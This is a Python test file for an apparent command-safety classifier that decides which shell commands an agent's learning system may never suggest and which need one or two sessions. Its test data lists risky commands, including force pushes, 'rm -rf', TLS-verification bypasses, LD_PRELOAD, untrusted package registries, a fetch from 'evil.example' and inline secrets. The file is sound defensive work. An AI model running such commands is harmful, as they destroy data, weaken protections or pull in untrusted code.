"""What is never told, and what needs two sessions."""

from __future__ import annotations

from pathlib import Path

import pytest

from nudge.learning import poison
from nudge.learning.shell import parse_commands


def needed(line: str, root: str | None = None, printed: str = "") -> int:
    return poison.sessions_needed(parse_commands(line), line, root, printed)


@pytest.mark.parametrize(
    "line",
    [
        "git push --force",
        "git reset --hard origin/main",
        "git commit --no-verify -m x",
        "rm -rf node_modules",
        "sudo chmod -R 777 data",
        "eval $(opam env)",
        "make x VERSION=`git describe`",
        "pip install --trusted-host pypi.org httpx",
        "pip install --index-url https://mirror.example x",
        "npm config set registry http://mirror.example",
        "git fetch git@evil.example:a/b.git",
        "LD_PRELOAD=./x.so make test",
        "GIT_SSL_NO_VERIFY=1 git fetch",
        "NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci",
        "DB_PASSWORD=hunter2 make test",
        "DATABASE_URL=[REDACTED:url] alembic current",
        "curl -sf https://x.example/v1",
        "bash -c 'make test'",
        "npx prisma migrate reset",
        "bin/rails db:drop",
        "docker stop grafana",
    ],
)
def test_never_told(line: str) -> None:
    """Deleting, weakened protection, text from elsewhere, unknown places, code that loads itself, secrets."""
    assert needed(line) == poison.NEVER


@pytest.mark.parametrize(
    "line", ["pip install rich", "npx cowsay", "sudo apt-get install -y libpq-dev", "go get x.example/y"]
)
def test_a_package_by_name_needs_two_sessions(line: str, tmp_path: Path) -> None:
    """Unless a file of the repository names it. What an output asked for, and no file names, is never told."""
    assert needed(line, str(tmp_path)) == 2
    assert needed(line, str(tmp_path), printed=f"To fix it, run: {line}") == poison.NEVER
    (tmp_path / "README.md").write_text(f"We use {line.split()[-1]}.")
    assert needed(line, str(tmp_path), printed=f"To fix it, run: {line}") == 1


@pytest.mark.parametrize(
    "line",
    [
        "npm ci",
        "pip install -r requirements.txt",
        ".venv/bin/pip install -e '.[dev]'",
        "docker compose up -d db",
        "AWS_PROFILE=dev aws s3 ls s3://bucket/x",
        "PORT=3100 npm run dev",
        "NODE_OPTIONS=--openssl-legacy-provider npm run build",
        "JAVA_HOME=/usr/lib/jvm/java-17 ./gradlew lint",
        "curl_check=1 make test",
    ],
)
def test_what_the_repository_and_the_machine_have_needs_one(line: str) -> None:
    """A service, the repository's own packages, a variable with the shape of a setting."""
    assert needed(line) == 1


def test_a_place_that_a_file_of_the_repository_names_may_be_told(tmp_path: Path) -> None:
    """A remote in go.mod, in .gitmodules or among the remotes of the clone."""
    line = "git fetch --tags git@github.com:acme/agent.git"
    assert needed(line, str(tmp_path)) == poison.NEVER
    (tmp_path / "go.mod").write_text("module github.com/acme/agent\n")
    assert needed(line, str(tmp_path)) == 1
